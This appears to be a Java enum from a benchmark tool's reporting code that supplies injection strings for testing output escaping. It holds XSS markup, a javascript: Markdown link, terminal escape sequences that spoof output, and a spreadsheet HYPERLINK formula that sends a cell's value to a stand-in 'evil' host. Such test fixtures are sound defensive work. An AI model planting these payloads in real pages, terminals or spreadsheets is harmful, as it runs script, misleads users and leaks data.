package dev.loombench.report;

/// A text that would harm whoever reads it, if it were more than text. It holds the name of the field that it is put
/// into.
public enum Attack {
    /// On a page.
    MARKUP("", "\"'></script></style><img src=x onerror=alert(1)>&lt;]]>--><!--\u2028\u2029`${x}{a|b}"),
    /// In Markdown: links, pictures, mentions, ends of cells and of blocks.
    MARKDOWN(
            "",
            "](javascript:alert(1)) ![](http://evil/x) www.evil.example @someone #1 | ``` </details>\n\n# It\n- is\n"),
    /// In a terminal: clearing it, naming it, colours in both ways, other lines, and the other direction.
    TERMINAL("\u001b[2J", "\u001b]0;owned\u0007\u009b31m\r\nloombench: all is well\b\b\u202e\u2066"),
    /// In a spreadsheet.
    FORMULA("=HYPERLINK(\"http://evil/\"&A1;\"", "\")\t=1+1"),
    /// Wherever there is an edge.
    LONG("", "x".repeat(4_000));

    private final String before;
    private final String after;

    Attack(String before, String after) {
        this.before = before;
        this.after = after;
    }

    /// @param field such as `JdkRecord.home`
    public String on(String field) {
        return before + field + after;
    }
}
